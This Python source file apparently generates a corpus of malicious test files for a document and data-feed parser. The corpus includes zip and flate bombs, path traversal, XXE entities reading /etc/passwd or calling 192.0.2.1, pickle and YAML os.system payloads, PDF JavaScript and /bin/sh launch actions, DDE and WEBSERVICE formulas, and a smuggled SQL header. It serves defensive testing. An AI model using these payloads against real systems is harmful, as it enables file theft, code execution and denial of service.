"""Files made to harm whoever reads them: bombs, loops, lies, nesting, foreign bytes. Each is (name, bytes)."""

from __future__ import annotations

import io
import json
import sys
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from advisor.settings import corpus_path

File = tuple[str, bytes]

_NEEDED = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml", "xlsx": "xl/workbook.xml"}
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>%s]>" % "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12))
_ENTITIES = {
    "laughs": (_LAUGHS, "&a11;"),
    "file": ("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;"),
    "address": ("<!DOCTYPE x [<!ENTITY e SYSTEM 'http://192.0.2.1/x'>]>", "&e;"),
    "parameter": ("<!DOCTYPE x [<!ENTITY % p SYSTEM 'file:///etc/passwd'> %p;]>", "x"),
    "quadratic": (f"<!DOCTYPE x [<!ENTITY a '{'a' * 100_000}'>]>", "&a;" * 10_000),
}
_MAGIC = {
    "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 500, "elf": b"\x7fELF" + b"\0" * 500, "exe": b"MZ" + b"\0" * 500,
    "gzip": b"\x1f\x8b\x08" + b"\0" * 500, "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "sqlite": b"SQLite format 3\0" + b"\0" * 600, "pickle": b"\x80\x04\x95cos\nsystem\n(S'true'\ntR.",
}  # fmt: skip
DOCUMENT_SUFFIXES = ("md", "txt", "html", "pdf", "docx", "pptx", "xlsx", "csv")
FEED_SUFFIXES = ("csv", "json", "yaml", "xlsx", "txt", "prom")


def documents() -> Iterator[File]:
    """Guidance that is none."""
    for number, (name, data) in enumerate(_documents()):
        stem, _, suffix = name.rpartition(".")
        yield f"{number:03d}-{stem}.{suffix}", data


def _documents() -> Iterator[File]:
    for suffix in DOCUMENT_SUFFIXES:
        yield f"nothing.{suffix}", b""
        for kind, magic in _MAGIC.items():
            yield f"really-{kind}.{suffix}", magic
    for suffix in _NEEDED:
        yield from ((f"{name}.{suffix}", data) for name, data in _zips(suffix))
    for name, (head, use) in _ENTITIES.items():
        yield (
            f"entity-{name}.docx",
            office(
                "docx", f"{head}<w:document {_W}><w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p></w:body></w:document>"
            ),
        )
        yield (
            f"entity-{name}.xlsx",
            office("xlsx", f"{head}<workbook {_S}><sheets><sheet name='{use}'/></sheets></workbook>"),
        )
        yield f"entity-{name}.pptx", office("pptx", f"{head}<presentation>{use}</presentation>")
    yield from _workbooks()
    yield from _words()
    yield from _slides()
    yield from _pdfs()
    yield from _pages()
    yield from _texts()
    for suffix, whole in sound().items():
        for part in (1, 2, 3):
            yield f"cut-{part}.{suffix}", whole[: len(whole) * part // 4]
        for step in (7, 13, 29):
            yield (
                f"flipped-{step}.{suffix}",
                bytes(b ^ 0xFF if i % (step * 17) == step else b for i, b in enumerate(whole)),
            )


def office(suffix: str, main: str, parts: dict[str, str | bytes] | None = None) -> bytes:
    """A package whose main part is `main`."""
    kind = {"docx": "wordprocessingml.document", "pptx": "presentationml.presentation", "xlsx": "spreadsheetml.sheet"}[
        suffix
    ]
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{_NEEDED[suffix]}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
    )
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        f'Target="{_NEEDED[suffix]}"/></Relationships>'
    )
    return zipped({"[Content_Types].xml": types, "_rels/.rels": relations, _NEEDED[suffix]: main, **(parts or {})})


def zipped(members: dict[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return stream.getvalue()


def _zips(suffix: str) -> Iterator[File]:
    needed = _NEEDED[suffix]
    inner = zipped({"a": b"\0" * 20_000_000})
    yield "bomb", zipped({needed: b"<x/>", "z": b"\0" * 60_000_000})
    yield "bomb-in-main", zipped({needed: b" " * 60_000_000})
    yield "nested", zipped({needed: b"<x/>", "a.zip": zipped({"b.zip": inner, "c.zip": inner})})
    yield "entries", zipped({needed: b"<x/>", **{f"e{i}": b"" for i in range(12_000)}})
    yield "foreign", zipped({"readme.txt": b"hello"})
    yield "traversal", zipped({needed: b"<x/>", "../../../../tmp/evil": b"x", "/etc/evil": b"x"})
    whole = office(suffix, "<x/>")
    central = whole.rfind(b"PK\x01\x02")
    yield "encrypted", whole[: central + 8] + b"\x01\x00" + whole[central + 10 :]
    yield "lying", whole[: central + 24] + b"\x01\x00\x00\x00" + whole[central + 28 :]
    yield "huge-claim", whole[: central + 24] + b"\xff\xff\xff\x7f" + whole[central + 28 :]
    yield "no-directory", whole[:central]
    yield "behind", b"MZ" * 5000 + whole
    yield "empty-main", zipped({needed: b""})
    yield "deep-main", office(suffix, "<a>" * 50_000 + "</a>" * 50_000)
    yield "broken-main", office(suffix, "<a><b></a>")
    yield "only-directory", b"PK\x05\x06" + b"\0" * 18


def _sheet(body: str, more: dict[str, str | bytes] | None = None) -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>'
    )
    book = (
        f'<workbook {_S} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="sites" sheetId="1" r:id="r1"/></sheets></workbook>'
    )
    strings = f"<sst {_S}><si><t>site</t></si></sst>"
    parts: dict[str, str | bytes] = {"xl/_rels/workbook.xml.rels": relations, "xl/sharedStrings.xml": strings}
    sheet = f"<worksheet {_S}>{body}</worksheet>"
    return office("xlsx", book, {**parts, "xl/worksheets/sheet1.xml": sheet, **(more or {})})


def _workbooks() -> Iterator[File]:
    cell = '<c r="%s" t="inlineStr"><is><t>x</t></is></c>'
    yield (
        "billion-cells.xlsx",
        _sheet(
            f'<dimension ref="A1:XFD1048576"/><sheetData><row r="1">{cell % "A1"}</row><row r="1048576">{cell % "XFD1048576"}</row></sheetData>'
        ),
    )
    yield "rows.xlsx", _sheet("<sheetData>" + "".join(f'<row r="{i}"/>' for i in range(1, 200_000)) + "</sheetData>")
    yield (
        "wide.xlsx",
        _sheet('<sheetData><row r="1">' + "".join(cell % f"XFD{i}" for i in range(1, 20_000)) + "</row></sheetData>"),
    )
    yield "merged.xlsx", _sheet('<sheetData/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield "no-string.xlsx", _sheet('<sheetData><row r="1"><c r="A1" t="s"><v>999999</v></c></row></sheetData>')
    yield (
        "bad-reference.xlsx",
        _sheet('<sheetData><row r="x"><c r="A0"><v>1</v></c><c r="ZZZZZ1"><v>1</v></c></row></sheetData>'),
    )
    yield (
        "row-zero.xlsx",
        _sheet(
            '<sheetData><row r="-5"><c r="A-5"><v>1</v></c></row><row r="99999999999"><c><v>1</v></c></row></sheetData>'
        ),
    )
    many = "".join(f"<si><t>{'x' * 2000}</t></si>" for _ in range(20_000))
    yield (
        "strings.xlsx",
        _sheet(
            '<sheetData><row r="1">' + '<c t="s"><v>1</v></c>' * 16_000 + "</row></sheetData>",
            {"xl/sharedStrings.xml": f"<sst {_S}>{many}</sst>"},
        ),
    )
    yield (
        "infinite.xlsx",
        _sheet(
            '<sheetData><row r="1"><c r="A1"><v>1e999999</v></c><c r="B1"><v>'
            + "9" * 100_000
            + "</v></c></row></sheetData>"
        ),
    )
    yield (
        "formula.xlsx",
        _sheet(
            '<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/")</f><v>=cmd|x!A1</v></c></row></sheetData>'
        ),
    )


def _words() -> Iterator[File]:
    def body(inside: str) -> bytes:
        return office("docx", f"<w:document {_W}><w:body>{inside}</w:body></w:document>")

    paragraph = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    yield "tables-in-tables.docx", body("<w:tbl><w:tr><w:tc>" * 3000 + "</w:tc></w:tr></w:tbl>" * 3000)
    yield "one-paragraph.docx", body(paragraph.format("word " * 2_000_000))
    yield "paragraphs.docx", body(paragraph.format("x") * 300_000)
    yield (
        "span.docx",
        body(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr>'
            + paragraph.format("x")
            + "</w:tc></w:tr></w:tbl>"
        ),
    )
    yield "controls.docx", body(paragraph.format("&#x202e;evil&#x200b;&#xfeff;"))
    relation = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/></Relationships>'
    for name, kind, target, mode in (
        ("template", "attachedTemplate", "http://192.0.2.1/x.dotm", ' TargetMode="External"'),
        ("outside", "styles", "../../../../etc/passwd", ""),
        ("itself", "styles", "document.xml", ""),
        ("missing", "numbering", "nowhere.xml", ""),
    ):
        part = {"word/_rels/document.xml.rels": relation.format(kind, target, mode)}
        yield (
            f"relation-{name}.docx",
            office("docx", f"<w:document {_W}><w:body>{paragraph.format('text')}</w:body></w:document>", part),
        )


def _slides() -> Iterator[File]:
    space = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    main = f'<p:presentation {space}><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst></p:presentation>'
    relation = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide" Target="{}"/></Relationships>'
    for name, target in (
        ("missing", "slides/none.xml"),
        ("itself", "presentation.xml"),
        ("outside", "../../etc/passwd"),
        ("empty", ""),
    ):
        yield f"slide-{name}.pptx", office("pptx", main, {"ppt/_rels/presentation.xml.rels": relation.format(target)})
    groups = "<p:grpSp>" * 5000 + "</p:grpSp>" * 5000
    slide = f"<p:sld {space}><p:cSld><p:spTree>{groups}</p:spTree></p:cSld></p:sld>"
    yield (
        "groups.pptx",
        office(
            "pptx",
            main,
            {"ppt/_rels/presentation.xml.rels": relation.format("slides/s.xml"), "ppt/slides/s.xml": slide},
        ),
    )
    yield "no-relation.pptx", office("pptx", main)
    yield (
        "slide-ids.pptx",
        office("pptx", main.replace('<p:sldId id="256" r:id="r1"/>', '<p:sldId id="256" r:id="r1"/>' * 50_000)),
    )


def pdf(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A file with these numbered objects and a right table of references."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (max(objects) + 1)
    for number in range(1, max(objects) + 1):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    return bytes(out + b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF" % (max(objects) + 1, trailer, start))


def _stream(body: bytes, about: bytes = b"") -> bytes:
    return b"<</Length %d %s>>\nstream\n%s\nendstream" % (len(body), about, body)


def _pdfs() -> Iterator[File]:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>/XObject<</X 4 0 R>>>>>>"
    text = b"BT /F 12 Tf 50 700 Td (Cooling water is metered at each rack of the hall.) Tj ET"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    whole = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: page,
        4: _stream(text),
        5: font,
    }
    flate = b"/Filter/FlateDecode"
    cases = {
        "sound": whole,
        "kids-loop": whole | {2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"},
        "many-pages": whole | {2: b"<</Type/Pages/Kids[" + b"3 0 R " * 30_000 + b"]/Count 1000000000>>"},
        "huge-page": whole | {3: page.replace(b"600 800", b"9e30 9e30")},
        "flate-bomb": whole | {4: _stream(zlib.compress(b"\0" * 400_000_000, 1), flate)},
        "flate-text": whole | {4: _stream(zlib.compress(text * 200_000), flate)},
        "double-flate": whole | {4: _stream(zlib.compress(zlib.compress(b" " * 100_000_000)), b"/Filter[/FlateDecode/FlateDecode]")},
        "filters": whole | {4: _stream(b"x", b"/Filter[" + b"/ASCIIHexDecode" * 5000 + b"]")},
        "predictor": whole | {4: _stream(zlib.compress(b"abc" * 1000), flate + b"/DecodeParms<</Predictor 15/Columns 999999999>>")},
        "lzw": whole | {4: _stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 5000, b"/Filter/LZWDecode")},
        "run-length": whole | {4: _stream(b"\x81A" * 2_000_000, b"/Filter/RunLengthDecode")},
        "arrays": whole | {4: b"[" * 100_000 + b"]" * 100_000},
        "dictionaries": whole | {3: b"<</A" * 50_000 + b">>" * 50_000},
        "length-lie": whole | {4: _stream(text).replace(b"/Length", b"/Length 99999999999/X")},
        "length-loop": whole | {4: b"<</Length 4 0 R>>\nstream\nx\nendstream"},
        "form-itself": whole | {4: _stream(b"/X Do", b"/Type/XObject/Subtype/Form/Resources<</XObject<</X 4 0 R>>>>")},
        "parent-loop": whole | {3: page.replace(b"/Parent 2", b"/Parent 3")},
        "script": whole | {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('http://192.0.2.1'))>>>>"},
        "launch": whole | {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>>>"},
        "outline-loop": whole | {1: b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>", 6: b"<</First 6 0 R/Last 6 0 R/Next 6 0 R/Title(x)>>"},
        "to-unicode": whole | {5: font[:-2] + b"/ToUnicode 6 0 R>>", 6: _stream(b"1 beginbfrange <0000> <ffffffff> <0000> endbfrange")},
        "object-stream": whole | {3: _stream(b"3 0 3 0 <<>>", b"/Type/ObjStm/N 999999/First 4/Extends 3 0 R")},
        "no-pages": {1: b"<</Type/Catalog>>"},
        "root-itself": {1: b"1 0 R"},
        "numbers": whole | {4: _stream(b"9" * 2_000_000 + b" Tj")},
        "string": whole | {4: _stream(b"BT (" + b"(" * 200_000 + b") Tj ET")},
    }  # fmt: skip
    for name, objects in cases.items():
        yield f"{name}.pdf", pdf(objects)
    yield (
        "encrypted.pdf",
        pdf(
            whole | {7: b"<</Filter/Standard/V 1/R 2/O(" + b"x" * 32 + b")/U(" + b"y" * 32 + b")/P -4>>"},
            b"/Root 1 0 R/Encrypt 7 0 R/ID[(a)(a)]",
        ),
    )
    yield "encrypted-itself.pdf", pdf(whole, b"/Root 1 0 R/Encrypt 1 0 R")
    yield "previous-loop.pdf", pdf(whole, b"/Root 1 0 R/Prev 9")
    yield "size-lie.pdf", pdf(whole).replace(b"/Size 6", b"/Size 99999999999")
    yield "header.pdf", b"%PDF-1.7\n"
    yield "references.pdf", pdf(whole)[:-30] + b"startxref\n-5\n%%EOF"
    yield "table-lie.pdf", pdf(whole).replace(b"xref\n0 6", b"xref\n0 99999999")
    yield "comments.pdf", b"%PDF-1.7\n" + b"%\n" * 3_000_000


def _pages() -> Iterator[File]:
    yield "nested.html", b"<div>" * 100_000 + b"deep" + b"</div>" * 100_000
    yield "unclosed.html", b"<p><b><i>" * 100_000
    yield "tables.html", b"<table><tr><td>" * 20_000 + b"cell"
    yield "lists.html", b"<ul><li>" * 20_000 + b"item"
    yield "attributes.html", b"<p " + b"a=1 " * 500_000 + b">text</p>"
    yield "long-attribute.html", b"<p title='" + b"x" * 20_000_000 + b"'>text</p>"
    yield "entities.html", b"<p>" + b"&amp;" * 1_000_000 + b"&#x110000;&#0;&#xD800;</p>"
    yield "lesser.html", b"<" * 2_000_000
    yield "comment.html", b"<!--" * 200_000
    yield "cdata.html", b"<![CDATA[" * 100_000
    yield "script.html", b"<script>" + b"x" * 10_000_000 + b"</script><p>Metered water is read monthly here.</p>"
    yield "span.html", b"<table><tr><td colspan=100000000 rowspan=100000000>x</td></tr></table>"
    yield "svg.html", b"<svg><use href='#a'/><g id=a>" + b"<use href='#a'/>" * 10_000 + b"</g></svg>"
    yield "doctype.html", _ENTITIES["file"][0].encode() + b"<p>&e; is what stands here in a sentence.</p>"
    yield (
        "refresh.html",
        b"<meta http-equiv=refresh content='0;url=http://192.0.2.1'><base href='file:///'><iframe src='file:///etc/passwd'></iframe>",
    )
    yield "charset.html", b"<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>"
    yield "charset-none.html", b"<meta charset=none-such><p>Metered water is read monthly here.</p>"


def _texts() -> Iterator[File]:
    yield "line.txt", b"word " * 8_000_000
    yield "unbroken.txt", b"x" * 30_000_000
    yield "lines.txt", b"a\n" * 5_000_000
    yield "headings.md", b"".join(b"# H%d\n\nOne.\n\n" % i for i in range(60_000))
    yield "blank.txt", b"\n" * 10_000_000
    yield "nul.txt", b"text\0" * 1000
    yield "control.txt", bytes(range(1, 32)) * 1000
    yield "invalid.txt", b"caf\xe9 \xff\xfe \xc3\x28 water is metered at the rack." * 100
    yield "surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80 water is metered at the rack"
    yield "utf-16.txt", "Water is metered at the rack.".encode("utf-16")
    yield "utf-16-odd.txt", "Water is metered at the rack.".encode("utf-16") + b"x"
    yield "utf-32.txt", "Water is metered at the rack.".encode("utf-32")
    yield "marks.txt", b"\xef\xbb\xbf\xff\xfe\xfe\xff Water is metered at the rack."
    yield "direction.txt", "Water \u202e is \u2066 metered \u200b at \ufeff the rack.".encode()
    yield "combining.txt", ("a" + "\u0301" * 500_000).encode()
    yield "punctuation.txt", b". " * 3_000_000
    yield "quotes.md", b">" * 200_000 + b" deep"
    yield "list.md", b"".join(b" " * i + b"- x\n" for i in range(3000))
    yield "brackets.md", b"[" * 200_000
    yield "links.md", b"[a](" * 100_000
    yield "emphasis.md", b"*a **b " * 100_000
    yield "ticks.md", b"".join(b"`" * i + b" " for i in range(2000))
    yield "fence.md", b"~~~~\n" * 100_000
    yield "table.md", b"|a" * 50_000 + b"|\n" + b"|-" * 50_000 + b"|\n" + b"|x" * 50_000 + b"|\n"
    yield "headings.md", b"# x\n" * 200_000
    yield "references.md", b"".join(b"[a%d]: <x>\n" % i for i in range(50_000)) + b"[a1] " * 50_000
    yield "html.md", b"<div>\n" * 100_000
    yield "front-deep.md", b"---\n" + b"[" * 50_000 + b"\n---\n# x\n\nWater is metered at the rack.\n"
    yield "front-laughs.md", b"---\n" + _yaml_laughs() + b"\n---\n# x\n\nWater is metered at the rack.\n"
    yield (
        "front-code.md",
        b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/evil']\n---\n# x\n\nWater is metered.\n",
    )
    yield "front-long.md", b"---\ntitle: " + b"x" * 5_000_000 + b"\n---\n# x\n\nWater is metered at the rack.\n"
    yield "front-open.md", b"---\nlabel: public\n" * 100_000
    yield "columns.csv", b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000
    yield "rows.csv", b"a,b\n" + b"1,2\n" * 2_000_000
    yield "quote.csv", b'a,b\n"' + b"x,\n" * 2_000_000
    yield "cell.csv", b'a,b\n"' + b"x" * 20_000_000 + b'",2\n'
    yield "nul.csv", b"a,b\n\0,\0\n" * 1000
    yield "formula.csv", b"a,b\n=cmd|' /C calc'!A0,@SUM(1)\n+1,-1\n"
    yield "delimiters.csv", b",;\t|" * 100_000


def _yaml_laughs() -> bytes:
    lines = ["a0: &a0 [ha, ha]"] + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 30)]
    return "\n".join(lines).encode()


def sound() -> dict[str, bytes]:
    """One small file of each packed format that reads well."""
    document = f"<w:document {_W}><w:body><w:p><w:r><w:t>Water is metered at the rack of each hall.</w:t></w:r></w:p></w:body></w:document>"
    cell = '<c r="A{0}" t="inlineStr"><is><t>Oslo {0}</t></is></c>'
    rows = "".join(f'<row r="{i}">{cell.format(i)}</row>' for i in range(1, 9))
    page = dict(_first(_pdfs()))["sound.pdf"]
    return {"docx": office("docx", document), "xlsx": _sheet(f"<sheetData>{rows}</sheetData>"), "pdf": page}


def _first(files: Iterator[File]) -> list[File]:
    return [next(files)]


def feeds(samples: Path) -> Iterator[File]:
    """Exports that are none, and those of `samples` damaged in three ways each."""
    for number, (name, data) in enumerate(_feeds(samples)):
        stem, _, suffix = name.rpartition(".")
        yield f"{number:03d}-{stem}.{suffix}", data


def _feeds(samples: Path) -> Iterator[File]:
    for suffix in FEED_SUFFIXES:
        yield f"nothing.{suffix}", b""
        for kind in ("png", "ole", "gzip"):
            yield f"really-{kind}.{suffix}", _MAGIC[kind]
    yield from ((f"{name}.xlsx", data) for name, data in _zips("xlsx"))
    yield from _workbooks()
    yield "deep.json", b"[" * 100_000
    yield "deep-sites.json", b'{"sites": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    yield "number.json", b'{"sites": [{"site": "Oslo", "pue": ' + b"9" * 100_000 + b"}]}"
    yield "infinite.json", b'{"sites": [{"site": "Oslo", "pue": 1e999, "rack_count": NaN, "power_used_kw": -Infinity}]}'
    yield "types.json", b'{"sites": [{"site": {"a": [1]}, "pue": [1], "country": null}, 5, null, []], "clusters": "x"}'
    yield "surrogate.json", b'{"sites": [{"site": "\\ud800", "pue": 1.2, "country": "\\u0000"}]}'
    yield "keys.json", b'{"sites": [{' + b",".join(b'"k%d": 1' % i for i in range(100_000)) + b"}]}"
    yield "laughs.yaml", _yaml_laughs()
    yield "laughs-sites.yaml", _yaml_laughs() + b"\nsites: [*a29]\n"
    yield "code.yaml", b"sites: !!python/object/apply:os.system ['touch /tmp/evil']\n"
    yield "deep.yaml", b"sites: " + b"[" * 20_000
    yield "itself.yaml", b"sites: &s [*s]\n"
    yield "merge.yaml", b"a: &a {<<: *a}\nsites: [*a]\n"
    yield "columns.csv", b"site," + b"a," * 1_000_000 + b"\nOslo\n"
    yield "rows-sites.csv", b"site,pue,country\n" + b"Oslo,1.2,NO\n" * 400_000
    yield "bad-sites.csv", b"site,pue,country\n" + b"Oslo,bad,NO\n" * 100_000
    yield "quote-sites.csv", b'site,pue,country\n"' + b"x\n" * 1_000_000
    yield "cell-sites.csv", b"site,pue,country\n" + b"x" * 5_000_000 + b",1.2,NO\n"
    bill = b"BilledCost,BillingCurrency,ChargePeriodStart,ChargePeriodEnd,ChargeCategory"
    yield "bill-empty.csv", bill + b"\n"
    yield "bill-ragged.csv", bill + b"\n1,2\n" + b"x," * 100 + b"\n"
    yield "bill-quote.csv", bill + b'\n"' + b"1,USD,2026-01-01,2026-01-02,Usage\n" * 100_000
    yield "bill-nul.csv", bill + b"\n\0\0\0\n1,USD,2026-01-01,2026-01-02,Usage\n"
    yield "bill-columns.csv", bill + b"," + b",".join(b"c%d" % i for i in range(20_000)) + b"\n1\n"
    yield "bill-twice.csv", bill + b",BilledCost\n1,USD,2026-01-01,2026-01-02,Usage,2\n"
    yield "bill-cell.csv", bill + b"\n" + b"x" * 11_000_000 + b",USD,2026-01-01,2026-01-02,Usage\n"
    yield "bill-dates.csv", bill + b"\n1,USD,9999999-01-01,-5,Usage\n1e400,USD,2026-01-01,2026-01-02,Usage\n"
    yield (
        "bill-quoted-header.csv",
        b'BilledCost,BillingCurrency,ChargePeriodStart,ChargePeriodEnd,ChargeCategory,"x"") FROM glob(\'/etc/*\')--"\n1,USD,2026-01-01,2026-01-02,Usage,1\n',
    )
    yield "labels.prom", b"DCGM_FI_DEV_GPU_UTIL{" + b'a="b",' * 200_000 + b"} 1\n"
    yield "escape.prom", b'DCGM_FI_DEV_GPU_UTIL{gpu="' + b"\\" * 500_000 + b"\n"
    yield "line.txt", b"NodeName=" + b"x" * 5_000_000
    yield "items.json", b'{"kind": "NodeList", "items": [{"kind": "Node", "status": 5, "metadata": []}, 1, null]}'
    yield "items-object.json", b'{"kind": "List", "items": {"kind": "Node", "status": {}}}'
    yield "fio.json", b'{"fio version": "fio-3", "jobs": [null, {"read": 5}, {"read": {"bw_bytes": "x"}}]}'
    yield "aws.json", b'{"Reservations": [{"Instances": [5, {"InstanceType": []}]}, null]}'
    yield "netbox.json", b'{"results": [{"device_type": 5, "serial": []}, "x"], "count": "many"}'
    yield "slurm.json", b'{"meta": {"slurm": {}}, "nodes": [{"gres": 5, "name": null}, 7]}'
    chosen = {
        path.suffix + path.parent.name: path for path in sorted(samples.rglob("*")) if path.suffix[1:] in FEED_SUFFIXES
    }
    for path in chosen.values():
        whole = path.read_bytes()[:400_000]
        name = f"{path.stem}-{{}}{path.suffix}"
        yield name.format("cut"), whole[: len(whole) // 2]
        yield name.format("flipped"), bytes(b ^ 0xFF if i % 97 == 13 else b for i, b in enumerate(whole))
        yield name.format("words"), whole.replace(b"1", b"one").replace(b":", b"::")
        if path.suffix == ".json":
            yield name.format("lists"), json.dumps(_turned(json.loads(path.read_bytes()))).encode()


def _turned(value: object) -> object:
    """Objects for lists, lists for objects, text for numbers: right names, wrong shapes."""
    if isinstance(value, dict):
        return {key: [_turned(one)] for key, one in list(value.items())[:200]}
    if isinstance(value, list):
        return {str(i): _turned(one) for i, one in enumerate(value[:200])}
    return str(value) if isinstance(value, int | float) else 7


def all_of(kind: str) -> Iterator[File]:
    return documents() if kind == "documents" else feeds(corpus_path() / "sample_org")


if __name__ == "__main__":
    for made, content in all_of(sys.argv[1]):
        (Path(sys.argv[2]) / made).write_bytes(content)
